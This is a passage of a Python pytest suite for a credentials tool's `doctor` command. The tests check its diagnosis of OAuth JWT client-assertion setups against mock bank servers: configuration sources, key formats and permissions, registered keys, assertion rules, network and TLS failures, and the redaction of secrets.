"""`doctor`: what it looks at and in which order, what it finds, and what it asks the server: once, or not at all."""

from __future__ import annotations

import base64
import json
import os
import re
import shlex
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pexpect
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from joserfc.jwk import RSAKey

from banno_creds.cli.report import as_option
from banno_creds.config import ClientConfig, KeySource
from banno_creds.doctor.case import Examination, Setup
from banno_creds.doctor.conclusion import conclusion
from banno_creds.doctor.examination import examine
from banno_creds.doctor.request import MOST_REQUESTS, PROBE_PAUSE
from banno_creds.errors import OutputError
from banno_creds.jose import keys
from banno_creds.rules.explanations import EXPLANATIONS
from banno_creds.rules.findings import Finding, Part, Rule, Verdict
from banno_creds.sandbox import Client, Sandbox
from banno_creds.steps import Run
from banno_creds.storage.own_files import MODES_MEAN_SOMETHING
from tests.conftest import CLIENT_ID, write_private
from tests.doctor.commands import ask, public_of, refused, without_chance
from tests.http.machine import exchanges_that_stay
from tests.jwts import NOW
from tests.openssl import openssl
from tests.sandbox.bench import shared_signing_key
from tests.seen import compare, program
from tests.servers.bank import NOT_THERE, TOKEN, WELL_KNOWN, Bank, granted
from tests.servers.loopback import Says, says_json
from tests.servers.raw import Proxy
from tests.servers.tls import Authority, make_authority
from tests.terminal import at_terminal

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping

    from tests.conftest import Cli, Result

pytestmark = pytest.mark.once

REFUSED = {"error": "invalid_client", "error_description": "client authentication failed"}
OFFLINE = ["Configuration", "Private key", "Registration", "Client assertion"]
ONLINE = ["Way to the server", "Server", "Token request"]


@pytest.fixture(autouse=True)
def _one_signing_key(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every sandbox makes a signing key of its own; here they share one, which saves most of the time."""
    monkeypatch.setattr(RSAKey, "generate_key", lambda *_args, **_options: shared_signing_key())


@pytest.fixture(autouse=True)
def _nothing_is_left() -> Iterator[None]:
    yield
    assert exchanges_that_stay() == []


PORTAL = Says(200, b"<title>Sign in</title><p>Sign in to the guest network", {"content-type": "text/html"})
BLOCKED = Says(403, b"<title>Forbidden</title><p>Request ID: 4711", {"content-type": "text/html"})
REDIRECT = Says(302, b"", {"location": "/login"})
DOWN = Says(503, b"", {"content-type": "text/html"})


@pytest.fixture
def bank() -> Iterator[Bank]:
    with Bank() as running:
        yield running


@dataclass
class Looked:
    """What came of looking."""

    examination: Examination
    parts: list[Part]
    pauses: list[float]
    log: list[str] = field(default_factory=list)  # the sandbox's, where one was asked

    @property
    def code(self) -> int:
        return self.examination.exit_code

    @property
    def titles(self) -> list[str]:
        return list(dict.fromkeys(part.title for part in self.parts))

    def rules(self, *verdicts: str) -> list[str]:
        return [finding.rule for finding in self.examination.findings if finding.verdict in verdicts]

    def one(self, rule: str, verdict: str | None = None) -> Finding:
        [finding] = [
            finding
            for finding in self.examination.findings
            if finding.rule == rule and verdict in (None, finding.verdict)
        ]
        return finding

    @property
    def causes(self) -> list[str]:
        diagnosis = self.examination.diagnosis
        return [] if diagnosis is None else [one.rule for one in diagnosis.causes]

    @property
    def ruled_out(self) -> list[str]:
        return (
            [] if self.examination.diagnosis is None else [one.rule for one in self.examination.diagnosis.ruled_out]
        )

    @property
    def accepted(self) -> list[bool]:
        return [request.accepted for request in self.examination.requests]


def look(
    key: keys.PrivateKey | Path,
    token_endpoint: str | None,
    *,
    registered: str | Path | None = None,
    offline: bool = False,
    probe: Callable[[int], bool] | None = None,
    clock: Callable[[], float] = time.time,
    tell: Callable[[Part], object] = lambda _: None,
    client_id: str = CLIENT_ID,
    **config: Any,
) -> Looked:
    """Look at a set-up in this process; nobody waits."""
    source = KeySource.file(key) if isinstance(key, Path) else KeySource("a variable", content=key.pem())
    parts: list[Part] = []
    pauses: list[float] = []

    def told(part: Part) -> None:
        parts.append(part)
        tell(part)

    setup = Setup(
        ClientConfig(client_id, source, token_endpoint=token_endpoint, **{"scope": ("openid",)} | config),
        (),
        None if registered is None else str(registered),
        offline=offline,
        probe=probe,
        spell=as_option,
    )
    examination = examine(setup, told, Run(clock=clock, sleep=pauses.append))
    # All that was told is found, but for what could not be told at first.
    all_told = [finding for part in parts for finding in part.findings]
    assert [finding for finding in all_told if finding in examination.findings] == list(examination.findings)
    left_out = [finding for finding in all_told if finding not in examination.findings]
    assert {(finding.rule, finding.verdict) for finding in left_out} <= {(Rule.AUD_MISMATCH, Verdict.UNKNOWN)}
    return Looked(examination, parts, pauses)


def look_at_sandbox(
    key: keys.PrivateKey,
    *,
    client: Client | None = None,
    server_clock: Callable[[], float] = time.time,
    **options: Any,
) -> Looked:
    """Look at a set-up whose server is the sandbox, which knows the client by this key."""
    log: list[str] = []
    with Sandbox([client or Client(CLIENT_ID, public_of(key))], clock=server_clock, log=log.append) as sandbox:
        seen = look(key, sandbox.token_endpoint, **options)
    seen.log = log
    return seen


@pytest.fixture
def registered(tmp_path: Path, rsa_key: keys.PrivateKey) -> Path:
    """The public key of the RSA key, as the bank has it."""
    file = tmp_path / "public.pem"
    file.write_bytes(rsa_key.public.pem())
    return file


@pytest.fixture(scope="module")
def other_key() -> keys.PrivateKey:
    return keys.generate("rsa")


def said(result: Result) -> dict[str, Any]:
    """What -o json gave."""
    members: dict[str, Any] = json.loads(result.stdout)
    assert members["exit_code"] == result.code
    return members


def failed(members: Mapping[str, Any]) -> list[str]:
    return [finding["rule"] for finding in members["findings"] if finding["verdict"] == "fail"]


# ── Order ───────────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_sound_set_up_has_no_finding_but_passes(rsa_key: keys.PrivateKey, registered: Path) -> None:
    seen = look_at_sandbox(rsa_key, registered=registered)
    assert seen.rules("fail", "warn", "unknown") == []
    assert (seen.code, seen.accepted, seen.examination.diagnosis) == (0, [True], None)
    assert [line for line in seen.log if "issued an access token" in line] == seen.log


def test_the_parts_come_in_the_order_of_their_use_offline_first(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    assert look(rsa_key, bank.url).titles == [*OFFLINE, *ONLINE]


def test_what_is_on_this_machine_is_told_before_the_server_is_connected_to(
    bank: Bank, rsa_key: keys.PrivateKey
) -> None:
    told: list[str] = []
    at_connection: list[list[str]] = []
    at_request: dict[str, list[str]] = {}
    bank.on_connection = lambda: at_connection.append(list(told))
    bank.on_request = lambda path: at_request.setdefault(path, list(told))

    def tell(part: Part) -> None:
        told.extend(f"{part.title}: {finding.looks_at}" for finding in part.findings)

    look(rsa_key, bank.url, tell=tell)
    assert {one.partition(":")[0] for one in at_connection[0]} >= set(OFFLINE)
    assert "Client assertion: aud" in at_connection[0]
    # Each as soon as it is known: while the server still thinks about an answer, all before it has been told.
    assert at_request[WELL_KNOWN][-1] == "Way to the server: connection"
    assert "Server: clock" not in at_request[WELL_KNOWN]
    assert at_request["/jwks"][-1] == "Server: scope"
    assert at_request["/token"][-1] == "Server: server's keys"
    assert told[-1] == "Token request: request"


def test_each_line_is_out_while_the_server_still_thinks(bank: Bank, rsa_pem: Path) -> None:
    go_on = threading.Event()
    in_time: list[bool] = []
    bank.on_request = lambda path: in_time.append(go_on.wait(60)) if path == WELL_KNOWN else None
    with subprocess.Popen(
        [sys.executable, "-m", "banno_creds", *ask(bank, rsa_pem)], stdout=subprocess.PIPE, encoding="utf-8"
    ) as child:
        assert child.stdout is not None
        before = ""
        while "connection" not in before:
            line = child.stdout.readline()
            assert line
            before += line
        go_on.set()
        after = child.stdout.read()
    assert in_time == [True]
    assert "Private key" in before
    assert "Client assertion" in before
    assert "Token request" in after
    assert child.returncode == 0


# ── Configuration ───────────────────────────────────────────────────────────────────────────────────────────────


def settings_of(members: Mapping[str, Any]) -> dict[str, tuple[str, str]]:
    return {setting["name"]: (setting["value"], setting["source"]) for setting in members["settings"]}


def test_each_setting_tells_where_it_came_from(cli: Cli, bank: Bank, rsa_pem: Path, tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text(f'[profiles.bank]\ntoken_endpoint = "{bank.url}"\nlifetime = 90\nalg = "RS256"\n')
    result = cli(
        *("doctor", "--offline", "-o", "json", "--profile", "bank", "--config", config, "--alg", "PS256"),
        *("--private-key", rsa_pem),
        env={"BANNO_CREDS_CLIENT_ID": CLIENT_ID},
    )
    settings = settings_of(said(result))
    assert settings["client-id"] == (CLIENT_ID, "BANNO_CREDS_CLIENT_ID")
    assert settings["private-key"] == (str(rsa_pem), "--private-key")
    assert settings["alg"] == ("PS256", "--alg")
    assert settings["token-endpoint"] == (bank.url, f"the profile bank in {config}")
    assert settings["lifetime"] == ("90", f"the profile bank in {config}")
    assert settings["scope"] == ("openid", "default")
    assert "environment" not in settings  # another setting names the endpoint
    assert "timeout" not in settings  # nobody gave one


def test_the_default_endpoint_is_named_by_its_environment(cli: Cli, rsa_pem: Path) -> None:
    result = cli("doctor", "--client-id", CLIENT_ID, "--private-key", rsa_pem, "--offline", "-o", "json")
    assert settings_of(said(result))["environment"] == ("production", "default")
    assert result.code == 0


def test_a_key_in_a_variable_is_named_and_not_shown(cli: Cli, bank: Bank, rsa_key: keys.PrivateKey) -> None:
    pem = rsa_key.pem().decode()
    result = cli(
        *("doctor", "--client-id", CLIENT_ID, "--token-endpoint", bank.url, "--offline", "-o", "json"),
        env={"BANNO_CREDS_PRIVATE_KEY_PEM": pem},
    )
    members = said(result)
    assert result.code == 0
    assert settings_of(members)["private-key"] == ("the key itself, not shown", "BANNO_CREDS_PRIVATE_KEY_PEM")
    assert not any(line in result.stdout for line in pem.splitlines()[1:-1])
    [key] = [finding for finding in members["findings"] if finding["looks_at"] == "private key"]
    assert key["received"].startswith("BANNO_CREDS_PRIVATE_KEY_PEM · RSA 2048")
    assert "mode" not in key["received"]


def test_of_what_may_hold_a_secret_only_the_name_is_shown(
    cli: Cli, bank: Bank, rsa_key: keys.PrivateKey, tmp_path: Path
) -> None:
    key = write_private(tmp_path / "key.pem", rsa_key.pem(b"open sesame"))
    passphrase = write_private(tmp_path / "the-passphrase", b"open sesame")
    result = cli(
        *ask(bank, key),
        *("--offline", "--passphrase-file", str(passphrase)),
        *("--claim", "tenant=cl41m", "--param", "hint=p4ram", "-o", "json"),
    )
    settings = settings_of(said(result))
    assert settings["passphrase-file"] == ("(given, not shown)", "--passphrase-file")
    assert settings["claim"] == ("tenant=…", "--claim")
    assert settings["param"] == ("hint=…", "--param")
    for hidden in ("the-passphrase", "cl41m", "p4ram", "open sesame"):
        assert hidden not in result.stdout


def test_a_password_in_a_url_is_not_shown(cli: Cli, bank: Bank, rsa_pem: Path, tmp_path: Path) -> None:
    bundle = tmp_path / "bundle.md"
    with_password = ["--token-endpoint", "https://user:pa55word@bank.example/token"]
    with_password += ["--resource", "https://user:pa55word@bank.example/"]
    result = cli(*ask(bank, rsa_pem, *with_password), "--bundle", str(bundle))
    assert result.code == 2
    assert "(not shown: a user name or password may be in it)" in result.stdout
    assert "pa55word" not in result.stdout + result.stderr + bundle.read_text()
    result = cli(*ask(bank, rsa_pem), "--registered", "https://user:pa55word@bank.example/jwks")
    assert (result.code, result.stdout) == (2, "")
    assert "pa55word" not in result.stderr


@pytest.mark.parametrize(
    ("url", "verdict", "words"),
    [
        ("https://login.jackhenry.com/a/oidc-provider/api/v0/token", "pass", "the environment production"),
        ("https://banno.com/a/oidc-provider/api/v0/token", "pass", "the environment legacy"),
        ("https://bank.example/token", "pass", "https://bank.example/token, which no environment has"),
        (
            "https://login.jackhenry.com/a/oidc-provider/api/v0/token/",
            "warn",
            "https://login.jackhenry.com/a/oidc-provider/api/v0/token/",
        ),
        ("https://LOGIN.jackhenry.com/token", "warn", "https://LOGIN.jackhenry.com/token"),
        ("https://bank.example/oauth", "warn", "https://bank.example/oauth"),
        (
            "https://bank.example/a/consumer/api/v0/oidc/token",
            "warn",
            "https://bank.example/a/consumer/api/v0/oidc/token",
        ),
    ],
)
def test_an_endpoint_that_is_not_meant_is_warned_of(
    rsa_key: keys.PrivateKey, url: str, verdict: str, words: str
) -> None:
    finding = look(rsa_key, url, offline=True).one("configuration.endpoint")
    assert (finding.verdict, finding.received) == (verdict, words)
    if verdict == "warn":
        assert finding.expected.endswith("https://login.jackhenry.com/a/oidc-provider/api/v0/token")


@pytest.mark.parametrize(
    ("client_id", "rule", "code"),
    [
        (f" {CLIENT_ID}", "client_id.malformed", 2),
        (f"{CLIENT_ID}\n", "client_id.malformed", 2),
        (f"'{CLIENT_ID}'", "client_id.malformed", 2),
        ("YOUR_CLIENT_ID", "client_id.placeholder", 2),
        (CLIENT_ID.upper(), "client_id.case", 0),
    ],
)
def test_a_client_id_that_was_not_copied_well_is_a_finding(
    cli: Cli, bank: Bank, rsa_pem: Path, client_id: str, rule: str, code: int
) -> None:
    result = cli(*ask(bank, rsa_pem, "--client-id", client_id), "-o", "json", "--offline")
    members = said(result)
    found = [finding for finding in members["findings"] if finding["verdict"] in ("fail", "warn")]
    assert [finding["rule"] for finding in found] == [rule]
    assert found[0]["fix"]
    assert result.code == code
    assert result.stderr == ""


def test_nothing_is_asked_of_the_server_with_a_placeholder(cli: Cli, bank: Bank, rsa_pem: Path) -> None:
    result = cli(*ask(bank, rsa_pem, "--client-id", "YOUR_CLIENT_ID"), "-o", "json")
    assert result.code == 2
    assert bank.forms == []


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["--token-endpoint", "http://bank.example/token"], "http"),
        (["--token-endpoint", "bank.example/token"], "the token endpoint"),
        (["--lifetime", "600"], "300"),
        (["--claim", "a=1", "--claim", "a=2"], "--claim a is given more than once"),
    ],
)
def test_settings_that_cannot_be_meant_are_a_finding(
    cli: Cli, bank: Bank, rsa_pem: Path, args: list[str], words: str
) -> None:
    result = cli(*ask(bank, rsa_pem, *args), "-o", "json")
    members = said(result)
    [finding] = [finding for finding in members["findings"] if finding["verdict"] == "fail"]
    assert finding["rule"] == "configuration.invalid"
    assert words in finding["received"]
    assert finding["fix"]
    assert (result.code, result.stderr, members["requests"], bank.asked) == (2, "", [], [])
    text = cli(*ask(bank, rsa_pem, *args))
    assert (text.code, text.stderr) == (2, "")
    assert "configuration.invalid" in text.stdout


@pytest.mark.parametrize("error", ["invalid_request", "invalid_client"])
def test_a_server_that_misses_the_client_id_brings_its_fix(error: str, cli: Cli, bank: Bank, rsa_pem: Path) -> None:
    bank.token = lambda form: (
        granted(scope="openid")
        if "client_id" in form
        else says_json(400, error=error, error_description="missing required parameter client_id")
    )
    options = ["--client-id", CLIENT_ID, "--private-key", str(rsa_pem), "--token-endpoint", bank.url]
    result = cli("doctor", *options)
    assert result.code == 4
    assert "add --client-id-in-body" in " ".join(result.stdout.split())
    result = cli("doctor", *options, "--client-id-in-body")
    assert (result.code, bank.forms[-1]["client_id"]) == (0, CLIENT_ID)


def test_several_endpoints_exclude_each_other(cli: Cli, bank: Bank, rsa_pem: Path) -> None:
    members = said(cli(*ask(bank, rsa_pem), "--issuer", bank.origin, "-o", "json"))
    assert failed(members) == ["configuration.invalid"]
    assert members["exit_code"] == 2
    settings = settings_of(members)
    assert settings["token-endpoint"][0] == bank.url
    assert settings["issuer"][0] == bank.origin
    assert "environment" not in settings
    text = cli(*ask(bank, rsa_pem), "--environment", "legacy")
    assert (text.code, text.stderr, bank.asked) == (2, "", [])
    assert "legacy  (--environment)" in text.stdout
    assert f"{bank.url}  (--token-endpoint)" in text.stdout


def test_a_set_up_without_a_key_says_so(cli: Cli, bank: Bank) -> None:
    result = cli("doctor", "--client-id", CLIENT_ID, "--token-endpoint", bank.url, "-o", "json")
    members = said(result)
    assert failed(members) == ["configuration.invalid"]
    assert "no private key was given" in result.stdout
    assert (result.code, bank.asked) == (2, [])


def test_a_profiles_key_that_is_not_there_ends_with_3(cli: Cli, bank: Bank, tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text('[profiles.bank]\nprivate_key = "nowhere.pem"\n')
    args = ["--client-id", CLIENT_ID, "--token-endpoint", bank.url, "--config", str(config), "--profile", "bank"]
    result = cli("doctor", *args, "-o", "json")
    assert failed(said(result)) == ["key.unusable"]
    assert (result.code, bank.asked) == (3, [])


# ── The key ─────────────────────────────────────────────────────────────────────────────────────────────────────


FORMS: dict[str, Callable[[keys.PrivateKey], bytes]] = {
    "PEM (PKCS#8)": lambda key: key.pem(),
    "PEM (PKCS#8, encrypted)": lambda key: key.pem(b"sesame"),
    "PEM (PKCS#1)": lambda key: openssl("pkey", "-traditional", stdin=key.pem()),
    "DER": lambda key: openssl("pkey", "-outform", "DER", stdin=key.pem()),
    "JWK": lambda key: json.dumps(dict(RSAKey.import_key(key.pem().decode()).as_dict(private=True))).encode(),
}


@pytest.mark.parametrize("form", FORMS)
def test_a_key_in_any_form_passes_and_its_form_is_named(rsa_key: keys.PrivateKey, tmp_path: Path, form: str) -> None:
    file = write_private(tmp_path / "key", FORMS[form](rsa_key))
    seen = look(file, "https://bank.example/token", offline=True, passphrase=lambda: b"sesame")
    assert seen.rules("fail", "warn") == []
    what, half = (finding.received for finding in seen.examination.findings if finding.rule == "key.unusable")
    assert what.startswith(f"{file} · RSA 2048 · {form}")
    assert what.endswith(" · mode 0600") == MODES_MEAN_SOMETHING
    assert half == rsa_key.public.fingerprint()


def test_an_ec_key_in_its_old_form_is_named_too(ec_key: keys.PrivateKey, tmp_path: Path) -> None:
    file = write_private(tmp_path / "key", openssl("ec", stdin=ec_key.pem()))
    seen = look(file, "https://bank.example/token", offline=True)
    assert any(" · EC P-256 · PEM (SEC 1)" in finding.received for finding in seen.examination.findings)
    assert seen.code == 0


def _small() -> bytes:
    key = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    return key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())


def _damaged(key: keys.PrivateKey) -> bytes:
    lines = key.pem().splitlines(keepends=True)
    return b"".join(lines[:8] + lines[12:])


@pytest.mark.parametrize(
    "name", ["missing", "damaged", "public", "small", "alg", "no passphrase", "wrong passphrase"]
)
def test_a_key_that_cannot_sign_is_a_finding_and_ends_with_3(
    cli: Cli, bank: Bank, rsa_key: keys.PrivateKey, tmp_path: Path, name: str
) -> None:
    content, more, words = {
        "missing": (None, [], "no such file"),
        "damaged": (_damaged(rsa_key), [], "damaged"),
        "public": (rsa_key.public.pem(), [], "public"),
        "small": (_small(), [], "1024"),
        "alg": (rsa_key.pem(), ["--alg", "ES256"], "ES256"),
        "no passphrase": (rsa_key.pem(b"sesame"), [], "passphrase"),
        "wrong passphrase": (rsa_key.pem(b"sesame"), ["--passphrase-file", "-"], "passphrase"),
    }[name]
    file = tmp_path / "key.pem"
    if content is not None:
        write_private(file, content)
    result = cli(*ask(bank, file), *more, "-o", "json", stdin=b"wrong" if more else b"")
    members = said(result)
    [fault] = [finding for finding in members["findings"] if finding["verdict"] == "fail"]
    # Where the key is good and --alg is not for it, it is the configuration's fault, as for `token`.
    assert (fault["rule"], result.code) == ("key.unusable", 2 if name == "alg" else 3)
    assert words in fault["received"]
    assert fault["fix"]
    assert bank.forms == []
    assert members["requests"] == []
    assert result.stderr == ""


@pytest.mark.posix("Windows has no modes")
def test_a_key_that_others_may_read_is_warned_of(rsa_pem: Path, bank: Bank) -> None:
    rsa_pem.chmod(0o640)
    seen = look(rsa_pem, bank.url)
    warning = seen.one("key.permissions")
    assert warning.verdict is Verdict.WARN
    assert "chmod 600" in warning.fix
    assert any(finding.received.endswith("mode 0640") for finding in seen.examination.findings)
    assert (seen.code, seen.accepted) == (0, [True])


@pytest.mark.posix("Windows has no modes")
def test_a_key_that_anybody_may_change_fails(rsa_pem: Path, bank: Bank) -> None:
    rsa_pem.chmod(0o666)
    seen = look(rsa_pem, bank.url)
    assert seen.rules("fail") == ["key.unusable"]
    assert "chmod" in seen.one("key.unusable", "fail").fix
    assert (seen.code, bank.forms) == (3, [])


@pytest.mark.posix("Windows has no /dev/fd")
def test_a_key_from_a_pipe_is_read_once_and_signs(cli: Cli, bank: Bank, rsa_key: keys.PrivateKey) -> None:
    reads, writes = os.pipe()
    os.write(writes, rsa_key.pem())
    os.close(writes)
    try:
        result = cli(*ask(bank, f"/dev/fd/{reads}"), "-o", "json")
    finally:
        os.close(reads)
    assert said(result)["verdict"] == "pass"
    assert len(bank.forms) == 1


def test_the_way_is_looked_at_although_there_is_no_key(bank: Bank, tmp_path: Path) -> None:
    seen = look(tmp_path / "none.pem", bank.url)
    assert seen.rules("fail") == ["key.unusable"]
    assert (seen.code, bank.forms) == (3, [])


# ── What the bank has ───────────────────────────────────────────────────────────────────────────────────────────


def jwk_of(key: keys.PrivateKey, **members: Any) -> dict[str, Any]:
    return RSAKey.import_key(public_of(key)).as_dict(private=False) | members


@pytest.mark.parametrize("form", ["PEM", "JWK", "JWKS"])
def test_the_registered_key_in_any_form_is_recognised(
    rsa_key: keys.PrivateKey, other_key: keys.PrivateKey, tmp_path: Path, form: str
) -> None:
    file = tmp_path / "registered"
    jwks = {"keys": [jwk_of(other_key, kid="a"), jwk_of(rsa_key, kid="b")]}
    file.write_bytes(
        rsa_key.public.pem() if form == "PEM" else json.dumps(jwks["keys"][1] if form == "JWK" else jwks).encode()
    )
    seen = look(rsa_key, "https://bank.example/token", offline=True, registered=file)
    assert seen.rules("fail", "warn") == []
    assert "belongs to the private key" in seen.one("registration.key.mismatch").received
    assert seen.one("assertion.signature.invalid").verdict is Verdict.PASS


def test_without_the_registered_key_it_says_how_to_tell(rsa_key: keys.PrivateKey) -> None:
    finding = look(rsa_key, "https://bank.example/token", offline=True).one("registration.key.mismatch")
    assert finding.verdict is Verdict.UNKNOWN
    assert "--registered FILE|URL" in finding.reason


def test_another_key_at_the_bank_is_found_before_the_server_is_asked(
    bank: Bank, rsa_key: keys.PrivateKey, other_key: keys.PrivateKey, tmp_path: Path
) -> None:
    file = tmp_path / "other.pem"
    file.write_bytes(other_key.public.pem())
    seen = look(rsa_key, bank.url, registered=file)
    finding = seen.one("registration.key.mismatch")
    assert finding.verdict is Verdict.FAIL
    assert rsa_key.public.fingerprint() in finding.received
    assert other_key.public.fingerprint() in finding.expected
    assert seen.causes[0] == "registration.key.mismatch"
    assert (seen.code, bank.forms) == (4, [])
    assert "registration.key.mismatch" in seen.one("token.request").reason


def test_a_private_key_in_the_registered_keys_place_is_leaked(
    bank: Bank, rsa_pem: Path, rsa_key: keys.PrivateKey
) -> None:
    seen = look(rsa_key, bank.url, registered=rsa_pem)
    finding = seen.one("registration.private_key")
    assert finding.verdict is Verdict.FAIL
    assert "leaked" in finding.fix or "new" in finding.fix
    assert not any(line in repr(seen.parts) for line in rsa_pem.read_text().splitlines()[1:-1])
    assert (seen.code, bank.forms) == (4, [])


def test_what_is_no_key_cannot_be_compared_with(bank: Bank, rsa_key: keys.PrivateKey, tmp_path: Path) -> None:
    file = tmp_path / "notes.txt"
    file.write_text("the key is in the mail")
    seen = look(rsa_key, bank.url, registered=file)
    assert seen.rules("fail") == ["registration.unreadable"]
    assert "in the mail" not in repr(seen.parts)
    assert (seen.code, bank.forms) == (4, [])


def test_a_registered_file_that_is_not_there_is_a_usage_error(cli: Cli, bank: Bank, rsa_pem: Path) -> None:
    result = cli(*ask(bank, rsa_pem), "--registered", "nowhere.pem")
    assert (result.code, result.stdout, bank.asked) == (2, "", [])
    assert "No such file: nowhere.pem" in result.stderr


def test_the_jwks_at_a_url_is_fetched_and_compared(
    bank: Bank, rsa_key: keys.PrivateKey, other_key: keys.PrivateKey
) -> None:
    sound = {"content-type": "application/jwk-set+json", "cache-control": "max-age=3600"}
    body = json.dumps({"keys": [jwk_of(rsa_key, kid="a")]}).encode()
    bank.answers["/client/jwks"] = Says(body=body, headers=sound)
    seen = look(rsa_key, bank.url, registered=f"{bank.origin}/client/jwks")
    assert seen.rules("fail", "warn", "unknown") == []
    assert "kept for up to 1 h" in seen.one("jwks.caching").received
    bank.answers["/client/jwks"] = says_json(keys=[jwk_of(other_key)])
    seen = look(rsa_key, bank.url, registered=f"{bank.origin}/client/jwks")
    assert "registration.key.mismatch" in seen.rules("fail")
    assert len(bank.forms) == 1


def test_the_health_of_the_jwks_is_told(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    jwks = [jwk_of(rsa_key), jwk_of(rsa_key)]
    bank.answers["/client/jwks"] = Says(
        body=json.dumps({"keys": jwks}).encode(), headers={"content-type": "text/html"}
    )
    seen = look(rsa_key, bank.url, registered=f"{bank.origin}/client/jwks")
    warned = ["jwks.caching", "jwks.key.repeated", "jwks.kid.missing", "jwks.media_type"]
    assert sorted(seen.rules("warn")) == warned
    assert all(seen.one(rule).fix for rule in warned)
    assert (seen.code, seen.accepted) == (0, [True])
    jwks.append({"kty": "RSA", "n": "", "e": "AQAB"})
    bank.answers["/client/jwks"] = says_json(keys=jwks)
    seen = look(rsa_key, bank.url, registered=f"{bank.origin}/client/jwks")
    assert seen.rules("fail") == ["jwks.key.malformed"]  # for which the provider refuses the whole set
    assert seen.code == 4


@pytest.mark.parametrize("answer", [NOT_THERE, PORTAL, DOWN])
def test_a_jwks_that_cannot_be_fetched_is_a_warning_and_it_goes_on(
    bank: Bank, rsa_key: keys.PrivateKey, answer: Says
) -> None:
    bank.answers["/client/jwks"] = answer
    seen = look(rsa_key, bank.url, registered=f"{bank.origin}/client/jwks")
    assert seen.rules("warn", "fail") == ["registration.unreachable"]
    assert f"{bank.origin}/client/jwks" in seen.one("registration.unreachable").received or answer is DOWN
    assert (seen.code, seen.accepted) == (0, [True])


def test_offline_no_jwks_is_fetched(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    seen = look(rsa_key, bank.url, registered=f"{bank.origin}/jwks", offline=True)
    finding = seen.one("registration.key.mismatch")
    assert (finding.verdict, "--offline" in finding.reason) == (Verdict.UNKNOWN, True)
    assert bank.asked == []


# ── The assertion ───────────────────────────────────────────────────────────────────────────────────────────────


def test_offline_all_rules_are_told_and_nobody_is_asked(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    connections: list[int] = []
    bank.on_connection = lambda: connections.append(1)
    seen = look(rsa_key, bank.url, offline=True)
    of_the_assertion = {rule for rule in Rule if rule.startswith("assertion.")}
    of_the_assertion -= {Rule.KID_MISSING, Rule.IAT_MISSING}  # only the server can tell
    assert of_the_assertion <= {finding.rule for finding in seen.examination.findings}
    assert (seen.code, seen.examination.requests, connections) == (0, (), [])
    assert "--offline" in seen.one("token.request").reason


@pytest.mark.parametrize(
    ("config", "rule", "verdict"),
    [
        ({"kid": "thumbprint"}, "assertion.kid.unexpected", "fail"),
        ({"aud": "https://bank.example/token/"}, "assertion.aud.mismatch", "fail"),
        ({"aud": "http://bank.example/token"}, "assertion.aud.mismatch", "fail"),
        ({"claims": {"tenant": "a"}}, "assertion.claims.unexpected", "warn"),
    ],
)
def test_the_assertion_that_would_be_sent_goes_through_all_rules(
    rsa_key: keys.PrivateKey, registered: Path, config: dict[str, Any], rule: str, verdict: str
) -> None:
    seen = look(rsa_key, "https://bank.example/token", offline=True, registered=registered, **config)
    assert seen.rules("fail", "warn") == [rule]
    finding = seen.one(rule)
    assert finding.verdict == verdict
    assert finding.received
    assert finding.expected
    assert finding.fix
    assert seen.code == (4 if verdict == "fail" else 0)


def test_a_rule_that_fails_leaves_the_server_unasked(bank: Bank, rsa_key: keys.PrivateKey, registered: Path) -> None:
    seen = look(rsa_key, bank.url, registered=registered, kid="thumbprint")
    assert bank.forms == []
    assert "assertion.kid.unexpected" in seen.one("token.request").reason
    assert seen.causes == ["assertion.kid.unexpected"]
    assert "Server" in seen.titles  # the rest is looked at all the same


# ── The way, and what the server says of itself ─────────────────────────────────────────────────────────────────


def test_a_name_that_nobody_knows_is_a_finding(rsa_key: keys.PrivateKey, monkeypatch: pytest.MonkeyPatch) -> None:
    def nobody(*_: object, **__: object) -> list[Any]:
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", nobody)
    seen = look(rsa_key, "https://bank.example/token")
    assert seen.rules("fail") == ["network.dns"]
    assert "bank.example" in seen.one("network.dns").received
    assert seen.titles == [*OFFLINE, "Way to the server"]
    assert (seen.code, seen.examination.requests) == (5, ())


def test_a_port_that_nobody_listens_at_is_a_finding(rsa_key: keys.PrivateKey) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        port = listener.getsockname()[1]
    seen = look(rsa_key, f"http://127.0.0.1:{port}/token")
    assert seen.rules("fail") == ["network.connection"]
    assert seen.causes == ["network.connection"]
    assert (seen.code, seen.examination.requests) == (5, ())


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return make_authority(tmp_path_factory.mktemp("authority") / "ours")


def test_over_tls_it_says_whose_certificate_it_is_and_who_vouches_for_it(
    rsa_key: keys.PrivateKey, authority: Authority
) -> None:
    with Bank(authority.context("127.0.0.1")) as bank:
        seen = look(rsa_key, bank.url, ca_bundle=authority.file)
    tls = seen.one("network.tls.untrusted")
    assert tls.verdict is Verdict.PASS
    assert tls.received.startswith("TLSv1.3 · certificate of 127.0.0.1 · issued by ")
    assert tls.received.endswith(f" · vouched for by --ca-bundle {authority.file}")
    assert (seen.rules("fail", "warn"), seen.accepted) == ([], [True])


@pytest.mark.parametrize("rule", ["network.tls.untrusted", "network.tls.expired", "network.tls.host"])
def test_a_certificate_that_is_not_to_be_trusted_is_a_finding_and_nothing_is_sent(
    rsa_key: keys.PrivateKey, authority: Authority, rule: str, tmp_path: Path
) -> None:
    past = datetime.now(UTC) - timedelta(days=1)
    context = {
        "network.tls.untrusted": make_authority(tmp_path / "other").context("127.0.0.1"),
